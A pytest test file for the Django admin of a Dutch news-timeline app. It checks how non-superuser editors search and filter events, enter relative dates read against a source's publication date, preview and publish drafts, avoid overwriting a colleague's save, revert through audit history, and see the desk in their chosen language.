"""The editors' desk: what an editor (staff, in the "Editors" group, not a superuser) sees.

Forms are posted the way a browser posts them: the page is fetched, its form read, a few fields
changed, and everything sent back, inline management forms included.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import threading
from html.parser import HTMLParser

import openpyxl
import pytest
import requests
import tablib
from axes.models import AccessAttempt
from django.conf import settings
from django.contrib.auth.models import Group, User
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from django.utils.text import capfirst

from timeline import imports
from timeline.admin_forms import EventAdminForm
from timeline.models import (
    Actor,
    Alias,
    Change,
    Citation,
    DataVersion,
    EditorPreference,
    Event,
    EventType,
    Participation,
    Source,
    Timeline,
    normalize,
)

pytestmark = pytest.mark.django_db

SOURCE = "nos-2022-01-28-lavrov"
CALL = "poetin-macron-telefoongesprek-2022-01-28"
LETTER = "navo-brief-aan-kremlin-2022-01-26"
ADD = "/admin/timeline/event/add/"
CHANGELIST = "/admin/timeline/event/"
IMPORT = "/admin/timeline/event/import/"
PROCESS_IMPORT = "/admin/timeline/event/process_import/"
EXPORT = "/admin/timeline/event/export/"
RESOLVE = "/admin/timeline/event/resolve-date/"
PASSWORD = "correct horse battery staple"
INGEST = "/admin/timeline/event/ingest/"


# -- reading a form the way a browser submits it ---------------------------------------------


class _FormReader(HTMLParser):
    def __init__(self, form_id: str | None):
        super().__init__(convert_charrefs=True)
        self.form_id = form_id
        self.inside = form_id is None
        self.data: dict[str, list[str]] = {}
        self._select: str | None = None
        self._select_values: list[str] = []
        self._first_option: str | None = None
        self._option: str | None = None
        self._textarea: str | None = None
        self._text = ""

    def _add(self, name: str, value: str) -> None:
        self.data.setdefault(name, []).append(value)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and self.form_id is not None:
            self.inside = a.get("id") == self.form_id
            return
        if not self.inside:
            return
        name = a.get("name")
        if tag == "input" and name:
            kind = (a.get("type") or "text").lower()
            if kind in ("submit", "button", "image", "file", "reset"):
                return
            if kind in ("checkbox", "radio"):
                if "checked" in a:
                    self._add(name, a.get("value", "on"))
                return
            self._add(name, a.get("value") or "")
        elif tag == "select" and name:
            self._select, self._select_values, self._first_option = name, [], None
        elif tag == "option" and self._select:
            value = a.get("value", "")
            if self._first_option is None:
                self._first_option = value
            if "selected" in a:
                self._select_values.append(value)
        elif tag == "textarea" and name:
            self._textarea, self._text = name, ""

    def handle_endtag(self, tag):
        if tag == "form" and self.form_id is not None:
            self.inside = False
        elif tag == "select" and self._select:
            values = self._select_values or (
                [self._first_option] if self._first_option is not None else []
            )
            for value in values:
                self._add(self._select, value)
            self._select = None
        elif tag == "textarea" and self._textarea:
            self._add(self._textarea, self._text.removeprefix("\n"))
            self._textarea = None

    def handle_data(self, data):
        if self._textarea:
            self._text += data


def form_data(response, form_id: str | None = "event_form") -> dict:
    """The form's fields with the values a browser would send (multi-valued as lists)."""
    assert response.status_code == 200, response.status_code
    reader = _FormReader(form_id)
    reader.feed(response.content.decode())
    data = {k: (v if len(v) > 1 else v[0]) for k, v in reader.data.items()}
    # The empty-form templates of the inlines are never filled in by an editor.
    return {k: v for k, v in data.items() if "__prefix__" not in k}


def text(response) -> str:
    return response.content.decode()


# -- the cast --------------------------------------------------------------------------------


def _editor(username: str) -> User:
    user = User.objects.create_user(username, f"{username}@redactie.example", PASSWORD)
    user.is_staff = True
    user.save()
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def editor(seed) -> User:
    return _editor("anna")


@pytest.fixture
def colleague(seed) -> User:
    return _editor("bram")


@pytest.fixture
def desk(client, editor) -> Client:
    client.force_login(editor)
    return client


@pytest.fixture
def desk2(colleague) -> Client:
    other = Client()
    other.force_login(colleague)
    return other


def _ids(slug: str) -> dict:
    return {"source": str(Source.objects.get(slug=slug).pk)}


def _actor(slug: str) -> str:
    return str(Actor.objects.get(slug=slug).pk)


def new_event_data(desk: Client, *, date_text="", edtf="", status="occurred", **extra) -> dict:
    data = form_data(desk.get(ADD))
    data.update(
        {
            "title": "Lavrov spreekt Blinken",
            "slug": "lavrov-spreekt-blinken",
            "type": str(EventType.objects.get(slug="talks").pk),
            "status": status,
            "date_text": date_text,
            "edtf": edtf,
            "summary": "Lavrov en Blinken spreken elkaar.",
            "participations-0-actor": _actor("lavrov"),
            "participations-0-role": "speaker",
            "participations-1-actor": _actor("blinken"),
            "participations-1-role": "speaker",
            "citations-0-source": _ids(SOURCE)["source"],
            "citations-0-position": "1",
            "citations-0-quote": "Lavrov en Blinken spraken elkaar woensdag.",
        }
    )
    data.update(extra)
    return data


def change_url(event: Event) -> str:
    return f"/admin/timeline/event/{event.pk}/change/"


# -- the group's permissions suffice ----------------------------------------------------------


def test_it_lets_an_editor_who_is_not_a_superuser_use_every_list(desk, editor):
    assert not editor.is_superuser
    for model in ["event", "actor", "alias", "source", "participation", "citation", "eventtype",
                  "timeline"]:  # fmt: skip
        assert desk.get(f"/admin/timeline/{model}/").status_code == 200, model
        assert desk.get(f"/admin/timeline/{model}/add/").status_code == 200, model


# -- lists, search, filters ----------------------------------------------------------------


def test_it_lists_events_with_date_label_type_status_and_participants(desk):
    html = text(desk.get(CHANGELIST))
    assert "woensdag 26 januari 2022" in html
    assert "24–27 januari 2022" in html
    assert "telefoongesprek" in html
    assert "Vladimir Poetin, Emmanuel Macron" in html
    assert "19 gebeurtenissen" in html


def test_it_lists_events_in_a_constant_number_of_queries(desk, django_assert_max_num_queries):
    with django_assert_max_num_queries(25):
        desk.get(CHANGELIST)
    many = Event.objects.get(slug=CALL)
    for i in range(30):
        many.pk, many.slug, many.version = None, f"kopie-{i}", 1
        many.save()
        Participation.objects.create(event=many, actor=Actor.objects.get(slug="poetin"),
                                     role="speaker")  # fmt: skip
    with django_assert_max_num_queries(25):
        assert desk.get(CHANGELIST).status_code == 200


@pytest.mark.parametrize("term", ["putin", "Poetin", "POETIN", "zelenskyy", "Oekraine"])
def test_it_finds_events_by_name_alias_case_and_accent(desk, term):
    html = text(desk.get(CHANGELIST, {"q": term}))
    # The events whose search text (names and aliases included, normalised) holds the term.
    expected = Event.objects.filter(search_text__contains=normalize(term)).count()
    assert expected > 0
    assert (f"{expected} gebeurtenissen" if expected > 1 else "1 gebeurtenis") in html


def test_it_finds_putin_events_by_the_english_spelling(desk):
    html = text(desk.get(CHANGELIST, {"q": "putin macron"}))
    assert Event.objects.get(slug=CALL).title in html
    assert "1 gebeurtenis" in html


def test_it_finds_events_by_a_word_of_the_quote(desk):
    html = text(desk.get(CHANGELIST, {"q": "heethoofden"}))
    assert "1 gebeurtenis" in html


def test_it_filters_events_by_actor_type_status_published_and_date(desk):
    html = text(desk.get(CHANGELIST, {"actor": "macron"}))
    assert "1 gebeurtenis" in html
    html = text(desk.get(CHANGELIST, {"type__id__exact": EventType.objects.get(slug="diplomatic-letter").pk}))
    assert "2 gebeurtenissen" in html
    html = text(desk.get(CHANGELIST, {"status__exact": "expected"}))
    assert "1 gebeurtenis" in html
    Event.objects.filter(slug=LETTER).update(published=False)
    html = text(desk.get(CHANGELIST, {"published__exact": "0"}))
    assert "1 gebeurtenis" in html and LETTER.replace("-", " ") not in html
    html = text(desk.get(CHANGELIST, {"start__gte": "2022-01-26", "start__lt": "2022-01-27"}))
    assert "3 gebeurtenissen" in html
    html = text(desk.get(CHANGELIST, {"start__year": "2022", "start__month": "1", "start__day": "26"}))
    assert "3 gebeurtenissen" in html


def test_it_finds_actors_by_alias_and_accent_in_the_list_and_the_autocomplete(desk):
    html = text(desk.get("/admin/timeline/actor/", {"q": "putin"}))
    assert "Vladimir Poetin" in html
    response = desk.get(
        "/admin/autocomplete/",
        {"app_label": "timeline", "model_name": "participation", "field_name": "actor",
         "term": "zelenskyy"},  # fmt: skip
    )
    assert response.status_code == 200
    assert [r["text"] for r in response.json()["results"]] == [
        Actor.objects.get(slug="zelensky").name
    ]
    response = desk.get(
        "/admin/autocomplete/",
        {"app_label": "timeline", "model_name": "participation", "field_name": "actor",
         "term": "NATO"},  # fmt: skip
    )
    assert [r["text"] for r in response.json()["results"]] == ["NAVO"]


def test_it_lists_actors_with_kind_function_affiliation_and_number_of_events(desk):
    html = text(desk.get("/admin/timeline/actor/", {"q": "lavrov"}))
    lavrov = Actor.objects.get(slug="lavrov")
    assert lavrov.function in html and "Rusland" in html
    n = Event.objects.filter(participations__actor=lavrov).distinct().count()
    assert f'<td class="field-event_count">{n}</td>' in html


def test_it_lists_sources_with_their_number_of_citations(desk):
    html = text(desk.get("/admin/timeline/source/"))
    assert f'<td class="field-citation_count">{Citation.objects.count()}</td>' in html


# -- entering an event with a date as the article says it -----------------------------------


@pytest.mark.parametrize(
    ("phrase", "edtf", "part_of_day"),
    [
        ("woensdag", "2022-01-26", ""),
        ("eerder deze week", "2022-01-24/2022-01-27", ""),
        ("vanmorgen", "2022-01-28", "morning"),
        ("2022-01-26", "2022-01-26", ""),
    ],
)
def test_it_reads_the_typed_date_against_the_source_publication_date(
    desk, editor, phrase, edtf, part_of_day
):
    response = desk.post(ADD, new_event_data(desk, date_text=phrase))
    assert response.status_code == 302, text(response)
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    assert (event.edtf, event.part_of_day) == (edtf, part_of_day)
    assert set(event.participations.values_list("actor__slug", "role")) == {
        ("lavrov", "speaker"),
        ("blinken", "speaker"),
    }
    assert list(event.citations.values_list("source__slug", flat=True)) == [SOURCE]
    assert not event.published
    assert event.history.get().history_user == editor


def test_it_reads_a_weekday_forwards_for_a_scheduled_event(desk):
    response = desk.post(ADD, new_event_data(desk, date_text="woensdag", status="scheduled"))
    assert response.status_code == 302
    assert Event.objects.get(slug="lavrov-spreekt-blinken").edtf == "2022-02-02"


def test_it_accepts_an_edtf_typed_directly(desk):
    response = desk.post(ADD, new_event_data(desk, edtf="2022-01-24/2022-01-27"))
    assert response.status_code == 302
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    assert (event.start.isoformat(), event.end.isoformat()) == ("2022-01-24", "2022-01-27")


def test_it_refuses_a_date_it_cannot_read_and_saves_nothing(desk):
    counts = (Event.objects.count(), Participation.objects.count(), Citation.objects.count())
    response = desk.post(ADD, new_event_data(desk, date_text="blauw"))
    assert response.status_code == 200
    html = text(response)
    assert "Deze datum is niet herkend" in html
    assert "blauw" in html and "geen datum die ik herken" in html
    assert "Er is niets opgeslagen" in html
    after = (Event.objects.count(), Participation.objects.count(), Citation.objects.count())
    assert after == counts


def test_it_refuses_an_invalid_edtf_and_an_event_without_a_date(desk):
    response = desk.post(ADD, new_event_data(desk, edtf="2022-13-45"))
    assert response.status_code == 200
    shown = "Gebeurtenis 'lavrov-spreekt-blinken': '2022-13-45' is geen geldige EDTF-datum"
    assert shown.replace("'", "&#x27;") in text(response)
    response = desk.post(ADD, new_event_data(desk))
    assert response.status_code == 200
    assert "Vul een datum in" in text(response)
    assert not Event.objects.filter(slug="lavrov-spreekt-blinken").exists()


def test_it_reads_a_changed_date_against_the_saved_citation(desk):
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    data["date_text"] = "eerder deze week"
    response = desk.post(change_url(event), data)
    assert response.status_code == 302, text(response)
    event.refresh_from_db()
    # The phrase has no part of day, and the editor did not choose one: the old one goes.
    assert (event.edtf, event.part_of_day) == ("2022-01-24/2022-01-27", "")


def test_it_shows_the_current_date_label_on_the_change_form(desk):
    html = text(desk.get(change_url(Event.objects.get(slug=CALL))))
    assert "vrijdag 28 januari 2022 · ochtend (EDTF 2022-01-28)" in html
    assert 'src="/static/admin-extra/date-preview.js"' in html
    assert "Controleer datum" in html and 'aria-live="polite"' in html


def test_it_refuses_a_weekday_against_a_source_dated_only_by_month(desk):
    month_only = Source.objects.create(
        slug="nos-januari", outlet="NOS", title="Januari", published_on="2022-01-01",
        published_precision="month",
    )  # fmt: skip
    data = new_event_data(desk, date_text="woensdag", **{"citations-0-source": str(month_only.pk)})
    response = desk.post(ADD, data)
    assert response.status_code == 200
    assert "alleen op de maand gedateerd" in text(response)
    data["date_text"] = "26 januari"
    assert desk.post(ADD, data).status_code == 302
    assert Event.objects.get(slug="lavrov-spreekt-blinken").edtf == "2022-01-26"
    response = desk.get(RESOLVE, {"text": "vanmorgen", "source": month_only.pk})
    assert "alleen op de maand gedateerd" in response.json()["error"]


def test_it_lets_an_editor_settle_the_date_of_an_ingested_draft(desk):
    event = Event.objects.get(slug=CALL)
    Event.objects.filter(pk=event.pk).update(
        unresolved_date="vanochtend", proposed_from=Source.objects.get(slug=SOURCE),
        confidence=0.4, published=False,
    )  # fmt: skip
    html = text(desk.get(CHANGELIST, {"unresolved_date__isempty": "0"}))
    assert "1 gebeurtenis" in html
    response = desk.get(change_url(event))
    assert "Voorstel uit een artikel" in text(response) and "vanochtend" in text(response)
    data = form_data(response)
    data["date_text"] = "vanochtend"
    assert desk.post(change_url(event), data).status_code == 302
    event.refresh_from_db()
    assert (event.edtf, event.part_of_day, event.unresolved_date) == ("2022-01-28", "morning", "")


# -- the date preview endpoint ----------------------------------------------------------------


def test_it_previews_a_typed_date_before_saving(desk):
    source = Source.objects.get(slug=SOURCE)
    response = desk.get(RESOLVE, {"text": "vanmorgen", "source": source.pk, "status": "occurred"})
    assert response.status_code == 200
    assert response.json() == {
        "base": "2022-01-28",
        "source": SOURCE,
        "read_from": "gelezen vanaf de publicatiedatum van NOS: Lavrov: Rusland wil geen oorlog "
        "met Oekraïne (vrijdag 28 januari 2022)",
        "edtf": "2022-01-28",
        "label": "vrijdag 28 januari 2022 · ochtend",
        "start": "2022-01-28",
        "end": "2022-01-28",
        "part_of_day": "morning",
    }
    response = desk.get(RESOLVE, {"text": "de komende weken", "source": source.pk,
                                  "status": "expected"})  # fmt: skip
    assert response.json()["edtf"] == "2022-01-29/.." and response.json()["end"] is None


def test_it_previews_against_the_event_citation_when_no_source_is_chosen(desk):
    event = Event.objects.get(slug=CALL)
    response = desk.get(RESOLVE, {"text": "woensdag", "event": event.pk})
    assert response.json()["edtf"] == "2022-01-26"


def test_it_previews_a_refusal_with_the_reason(desk):
    response = desk.get(RESOLVE, {"text": "blauw", "source": Source.objects.get(slug=SOURCE).pk})
    assert response.status_code == 200
    assert response.json()["error"] == "'blauw' is geen datum die ik herken"


# -- drafts, preview, publish -----------------------------------------------------------------


def test_it_shows_a_draft_to_editors_only(desk, client):
    desk.post(ADD, new_event_data(desk, date_text="woensdag"))
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    preview = f"/admin/timeline/event/{event.pk}/preview/"
    html = text(desk.get(CHANGELIST))
    assert f'href="{preview}"' in html
    assert f'href="{preview}"' in text(desk.get(change_url(event)))
    response = desk.get(preview)
    assert response.status_code == 200
    assert response.context["is_preview"] is True
    assert "Lavrov spreekt Blinken" in text(response)
    assert "woensdag 26 januari 2022" in text(response)
    desk.logout()
    assert desk.get(event.get_absolute_url()).status_code == 404
    response = desk.get(preview)
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_it_publishes_and_unpublishes_in_bulk(desk):
    pks = list(Event.objects.filter(slug__in=[CALL, LETTER]).values_list("pk", flat=True))
    Event.objects.filter(pk__in=pks).update(published=False)
    response = desk.post(
        CHANGELIST, {"action": "publish", "_selected_action": pks}, follow=True
    )
    assert "2 gebeurtenissen gepubliceerd" in text(response)
    assert Event.objects.filter(pk__in=pks, published=True).count() == 2
    assert all(e.version == 2 for e in Event.objects.filter(pk__in=pks))
    response = desk.post(
        CHANGELIST, {"action": "unpublish", "_selected_action": pks[:1]}, follow=True
    )
    assert "1 gebeurtenis niet meer gepubliceerd" in text(response)
    assert desk.get(Event.objects.get(pk=pks[0]).get_absolute_url()).status_code == 404


# -- no lost update -----------------------------------------------------------------------------


def test_it_refuses_to_overwrite_a_colleague_and_says_what_they_changed(desk, desk2):
    event = Event.objects.get(slug=CALL)
    mine = form_data(desk.get(change_url(event)))
    theirs = form_data(desk2.get(change_url(event)))

    theirs["title"] = "Poetin belt Macron (gecorrigeerd)"
    assert desk2.post(change_url(event), theirs).status_code == 302

    mine["title"] = "Poetin en Macron bellen"
    mine["summary"] = "Mijn nieuwe samenvatting."
    response = desk.post(change_url(event), mine)

    assert response.status_code == 200
    html = text(response)
    assert "Een collega heeft deze gebeurtenis opgeslagen nadat u haar opende (bram," in html
    assert ("titel: ‘Poetin belt Macron (gecorrigeerd)’ (collega) tegenover "
            "‘Poetin en Macron bellen’ (u)") in html
    assert "samenvatting" not in html.split("Gewijzigd door de collega")[1].split(".")[0]
    event.refresh_from_db()
    assert event.title == "Poetin belt Macron (gecorrigeerd)"
    assert event.summary != "Mijn nieuwe samenvatting."
    assert event.version == 2


def test_it_notices_a_colleague_who_only_changed_a_participant(desk, desk2):
    event = Event.objects.get(slug=CALL)
    mine = form_data(desk.get(change_url(event)))
    theirs = form_data(desk2.get(change_url(event)))
    theirs["participations-0-role"] = "caller"
    assert desk2.post(change_url(event), theirs).status_code == 302

    response = desk.post(change_url(event), mine)
    assert response.status_code == 200
    assert "deelnemers: ‘Emmanuel Macron (spreker); Vladimir Poetin (beller)’ (collega)" in text(response)
    assert Participation.objects.filter(event=event, role="caller").count() == 1


def test_it_refuses_a_write_that_loses_the_race_after_the_check(desk, desk2, monkeypatch):
    """The form's check passed, then a colleague saved: the conditional UPDATE still refuses."""
    event = Event.objects.get(slug=CALL)
    mine = form_data(desk.get(change_url(event)))
    theirs = form_data(desk2.get(change_url(event)))
    theirs["title"] = "Eerst opgeslagen"
    assert desk2.post(change_url(event), theirs).status_code == 302

    check = EventAdminForm._check_version
    calls = []

    def late_check(form, cleaned):
        calls.append(1)
        if len(calls) > 1:  # the first check "passes", as if it ran before the colleague
            check(form, cleaned)

    monkeypatch.setattr(EventAdminForm, "_check_version", late_check)
    mine["title"] = "Te laat"
    response = desk.post(change_url(event), mine)
    assert response.status_code == 200
    assert "Een collega heeft deze gebeurtenis opgeslagen" in text(response)
    assert len(calls) == 2
    event.refresh_from_db()
    assert (event.title, event.version) == ("Eerst opgeslagen", 2)


# -- audit history and revert -----------------------------------------------------------------


def test_it_records_every_save_and_reverts_to_an_earlier_version(desk, editor):
    desk.post(ADD, new_event_data(desk, date_text="woensdag"))
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    first = event.history.get()
    assert first.history_type == "+" and first.history_user == editor

    data = form_data(desk.get(change_url(event)))
    data.update({"title": "Verkeerde titel", "date_text": "vanmorgen"})
    assert desk.post(change_url(event), data).status_code == 302
    assert event.history.count() == 2

    history = text(desk.get(f"/admin/timeline/event/{event.pk}/history/"))
    assert "Verkeerde titel" in history and "anna" in history
    assert "Lavrov spreekt Blinken" in history  # the diff: old → new
    assert "<strong>Dagdeel:</strong> — &rarr; ochtend" in history  # the label, not "morning"
    assert "<strong>Titel:</strong> Lavrov spreekt Blinken &rarr; Verkeerde titel" in history
    assert "Deelname toegevoegd: Sergej Lavrov (spreker)" in history  # the first version's rows
    assert "Vladimir Poetin" not in history  # only this event's participants

    revert_url = f"/admin/timeline/event/{event.pk}/history/{first.history_id}/"
    reverted = form_data(desk.get(revert_url), "historicalevent_form")
    assert reverted["title"] == "Lavrov spreekt Blinken"
    assert desk.post(revert_url, reverted).status_code == 302

    event.refresh_from_db()
    assert (event.title, event.edtf, event.part_of_day) == (
        "Lavrov spreekt Blinken", "2022-01-26", ""
    )
    assert event.version == 3
    assert event.history.count() == 3
    assert event.history.first().history_user == editor


def _whole(event: Event) -> dict:
    """What a reader and the API see of an event: its fields, participants and citations."""
    event = Event.objects.get(pk=event.pk)
    fields = {f.name: getattr(event, f.name) for f in Event._meta.concrete_fields}
    for derived in ("updated", "version", "search_text"):
        del fields[derived]
    return {
        **fields,
        "participations": sorted(event.participations.values_list("pk", "actor__slug", "role")),
        "citations": sorted(event.citations.values_list("pk", "source__slug", "position", "quote")),
        "timelines": sorted(event.timelines.values_list("slug", flat=True)),
    }


def test_it_reverts_the_whole_event_with_its_participants_and_citations(desk):
    desk.post(ADD, new_event_data(desk, date_text="woensdag"))
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    first_version = _whole(event)
    first = event.history.get()

    data = form_data(desk.get(change_url(event)))
    assert data["participations-0-role"] == "speaker"
    data.update({
        "date_text": "vanmorgen",
        "participations-0-role": "subject",
        "citations-0-quote": "Een ander citaat.",
        "participations-2-actor": _actor("poetin"),
        "participations-2-role": "mentioned",
    })  # fmt: skip
    assert desk.post(change_url(event), data).status_code == 302
    changed = _whole(event)
    assert changed["edtf"] == "2022-01-28" and changed["part_of_day"] == "morning"
    assert ("lavrov", "subject") in {(slug, role) for _pk, slug, role in changed["participations"]}
    assert len(changed["participations"]) == 3
    assert changed["citations"][0][3] == "Een ander citaat."

    history_page = text(desk.get(f"/admin/timeline/event/{event.pk}/history/"))
    assert "Deelname Sergej Lavrov (betrokkene) gewijzigd: Rol: spreker → betrokkene" in history_page
    assert "Deelname toegevoegd: Vladimir Poetin (genoemd)" in history_page
    assert "Citaat: Lavrov en Blinken spraken elkaar woensdag. → Een ander citaat." in history_page

    revert_url = f"/admin/timeline/event/{event.pk}/history/{first.history_id}/"
    assert desk.post(revert_url, form_data(desk.get(revert_url), "historicalevent_form")).status_code == 302
    assert _whole(event) == first_version
    latest = event.history.first()
    assert latest.history_change_reason.startswith("teruggezet naar de versie van ")
    assert Participation.history.filter(event_id=event.pk).latest("history_date").history_change_reason == (
        latest.history_change_reason
    )


def test_it_keeps_rows_loaded_before_history_began_when_reverting(desk):
    """The seed is loaded without history: its rows have no record until an editor changes them."""
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    assert data["participations-0-actor"] == _actor("poetin")
    data["participations-0-role"] = "caller"
    assert desk.post(change_url(event), data).status_code == 302
    version = _whole(event)
    first = event.history.get()
    data = form_data(desk.get(change_url(event)))
    data.update({"title": "Later", "participations-1-role": "callee", "citations-0-quote": "Anders."})
    assert desk.post(change_url(event), data).status_code == 302

    revert_url = f"/admin/timeline/event/{event.pk}/history/{first.history_id}/"
    assert desk.post(revert_url, form_data(desk.get(revert_url), "historicalevent_form")).status_code == 302
    assert _whole(event) == version


def test_it_keeps_history_for_actors_sources_and_their_rows(desk):
    lavrov = Actor.objects.get(slug="lavrov")
    data = form_data(desk.get(f"/admin/timeline/actor/{lavrov.pk}/change/"), "actor_form")
    data["function"] = "minister"
    response = desk.post(f"/admin/timeline/actor/{lavrov.pk}/change/", data)
    assert response.status_code == 302, text(response)
    assert lavrov.history.count() == 1
    html = text(desk.get(f"/admin/timeline/actor/{lavrov.pk}/history/"))
    assert "<td>minister</td>" in html  # the function as saved, in the history's row
    for model in (Alias, Source, Timeline, EventType):
        row = model.objects.first()
        before = row.history.count()
        row.save()
        assert row.history.count() == before + 1, model
    # An event's rows, loaded without history: their first change records them as they were
    # (for a revert to give back), then the change.
    for model in (Participation, Citation):
        row = model.objects.first()
        assert row.history.count() == 0
        row.save()
        assert list(row.history.order_by("history_date").values_list("history_type", flat=True)) == ["+", "~"]


# -- one language per editor -------------------------------------------------------------------


class _ShownText(HTMLParser):
    """What a page shows an editor or reads out to one: its text, and the alt, title,
    aria-label and placeholder attributes and the buttons' values; not scripts, hidden fields
    or the values of options (what the form sends)."""

    SKIP = {"script", "style", "svg", "template"}

    def __init__(self):
        super().__init__()
        self.parts: list[str] = []
        self.skipping = 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag in self.SKIP:
            self.skipping += 1
        for name in ("alt", "title", "aria-label", "placeholder"):
            if attrs.get(name):
                self.parts.append(attrs[name])
        if tag == "input" and attrs.get("type") in ("submit", "button") and attrs.get("value"):
            self.parts.append(attrs["value"])

    def handle_endtag(self, tag):
        if tag in self.SKIP:
            self.skipping -= 1

    def handle_data(self, data):
        if not self.skipping and data.strip():
            self.parts.append(data.strip())


def shown_text(response) -> str:
    reader = _ShownText()
    reader.feed(text(response))
    return "\n".join(reader.parts)


# What the Dutch desk showed in English before (issue 16), and what else the apps say in English.
ENGLISH = [
    "- Select an option -", "Select an option", "Filter by", "Source:", "This exporter",
    "Timelinejs Type", "Edtf", "Choose a date", "Changed", "Created", "Changed by", "CHANGED BY",
    "Change reason", "Date/time", "Comment", "Revert", "Press the", "Search", "Pagination",
    "Opened", "Actor", "Historical", "Select all", "History", "Object", "None",
]  # fmt: skip


def _desk_pages(desk) -> dict[str, str]:
    """The Dutch desk's pages an editor works on, after one change so the history has a diff."""
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    data["participations-0-role"] = "caller"
    assert desk.post(change_url(event), data).status_code == 302
    first = event.history.last()
    pages = {
        "event list": CHANGELIST,
        "event list, filtered and searched": f"{CHANGELIST}?status__exact=occurred&q=lavrov",
        "edit": change_url(event),
        "add": ADD,
        "history": f"/admin/timeline/event/{event.pk}/history/",
        "revert": f"/admin/timeline/event/{event.pk}/history/{first.history_id}/",
        "import": IMPORT,
        "export": EXPORT,
        "ingest": INGEST,
        "actor list": "/admin/timeline/actor/",
        "source list": "/admin/timeline/source/",
    }
    shown = {}
    for name, url in pages.items():
        response = desk.get(url)
        assert response.status_code == 200, name
        assert response.headers["Content-Language"] == response.wsgi_request.LANGUAGE_CODE
        shown[name] = shown_text(response)
    proposals = desk.post(INGEST, {**ARTICLE, "propose": "1"})
    assert proposals.status_code == 200 and 'name="keep"' in text(proposals)
    shown["ingest, the proposals"] = shown_text(proposals)
    return shown


def test_it_shows_no_english_on_the_dutch_desk_even_to_an_english_browser(desk):
    desk.defaults["HTTP_ACCEPT_LANGUAGE"] = "en-GB,en;q=0.9"  # the browser does not decide
    for name, shown in _desk_pages(desk).items():
        english = [phrase for phrase in ENGLISH if re.search(rf"(?<!\w){re.escape(phrase)}(?!\w)", shown)]
        assert english == [], (name, english)


def test_it_labels_the_desk_with_the_models_own_names(desk):
    pages = _desk_pages(desk)

    def label(model, field) -> str:
        return capfirst(model._meta.get_field(field).verbose_name)

    for field in ("title", "type", "status", "edtf", "part_of_day", "location", "timelines"):
        assert f"{label(Event, field)}:" in pages["edit"], field
    assert f"{label(Citation, 'source')}:" in pages["edit"]
    assert label(Participation, "actor") in pages["edit"].splitlines()
    assert label(Participation, "role") in pages["edit"].splitlines()
    for choice in Event.Status.labels:
        assert choice in pages["edit"].splitlines()
    assert f"Op {Event._meta.get_field('start').verbose_name}" in pages["event list"]
    for column in ("status", "published"):
        assert label(Event, column) in pages["history"].splitlines()
    assert f"{label(Event, 'edtf')} — kolom EDTF" in pages["export"]
    assert f"{label(Event, 'title')} — kolom Headline" in pages["export"]
    # The change in words: the role's label, not its value.
    assert "Deelname Vladimir Poetin (beller) gewijzigd: Rol: spreker → beller" in pages["history"]


def test_it_shows_the_desk_in_english_to_an_editor_who_chose_english(desk, editor):
    EditorPreference.objects.create(user=editor, language="en")
    pages = _desk_pages(desk)
    for name, shown in pages.items():
        dutch = [w for w in ("Kies een optie", "Op begin", "Wijzigingsgeschiedenis", "Opslaan",
                             "Gebeurtenissen", "Wat er veranderde", "kolom") if w in shown]  # fmt: skip
        assert dutch == [], (name, dutch)
    assert "Select event to change" in pages["event list"]
    assert "- Select an option -" in pages["edit"]
    assert "Status:" in pages["edit"] and "occurred" in pages["edit"].splitlines()
    assert "Participation Vladimir Putin (caller) changed: Role: speaker → caller" in pages["history"]
    assert "What changed" in pages["history"]


def _our_dutch() -> list[str]:
    """The Dutch of our own code, from the English catalogue: every msgid whose English differs,
    or the fixed words between its placeholders, that is long enough not to be a name."""
    po = (settings.BASE_DIR / "locale/en/LC_MESSAGES/django.po").read_text()
    phrases = set()
    for block in po.split("\n\n"):
        ids = re.findall(r'^msgid "(.*)"((?:\n".*")*)', block, re.M)
        strs = re.findall(r'^msgstr(?:\[0\])? "(.*)"((?:\n".*")*)', block, re.M)
        if not ids or not strs:
            continue
        msgid, msgstr = (first + "".join(re.findall(r'"(.*)"', rest)) for first, rest in (ids[0], strs[0]))
        if not msgstr or msgid == msgstr:
            continue
        for piece in re.split(r"%\(\w+\)[sd]|%[sd]|<[^>]*>|\\n", msgid.replace('\\"', '"')):
            if len(piece.strip()) >= 12:
                phrases.add(piece.strip())
    return sorted(phrases)


def test_it_shows_none_of_our_dutch_to_an_editor_who_chose_english(desk, editor, desk2):
    EditorPreference.objects.create(user=editor, language="en")
    dutch = _our_dutch()
    assert "Artikel inlezen" in dutch and "Alleen wat is aangevinkt wordt opgeslagen, als concept." in dutch
    pages = _desk_pages(desk)
    # The note on a draft, and a colleague's save in between.
    draft = Event.objects.get(slug=LETTER)
    Event.objects.filter(pk=draft.pk).update(published=False)
    pages["draft edit"] = shown_text(desk.get(change_url(draft)))
    event = Event.objects.get(slug=CALL)
    mine = form_data(desk.get(change_url(event)))
    theirs = form_data(desk2.get(change_url(event)))
    theirs["title"] = "Putin calls Macron"
    assert desk2.post(change_url(event), theirs).status_code == 302
    mine["title"] = "Putin and Macron talk"
    conflict = desk.post(change_url(event), mine)
    assert conflict.status_code == 200
    pages["conflict"] = shown_text(conflict)
    for name, shown in pages.items():
        found = [phrase for phrase in dutch if phrase in shown]
        assert found == [], (name, found)
    assert "Draft: this event is not on the public timeline yet." in pages["draft edit"]
    assert "Preview (draft)" in pages["draft edit"]
    assert "A colleague saved this event after you opened it (bram," in pages["conflict"]
    assert "title: ‘Putin calls Macron’ (colleague) against ‘Putin and Macron talk’ (you)" in (
        pages["conflict"]
    )
    assert "Or a file" in pages["ingest"] and "Publication date" in pages["ingest"]
    assert "Only what is ticked is saved, as a draft." in pages["ingest, the proposals"]
    assert "Show proposals" in pages["ingest"] and "Read an article" in pages["event list"]


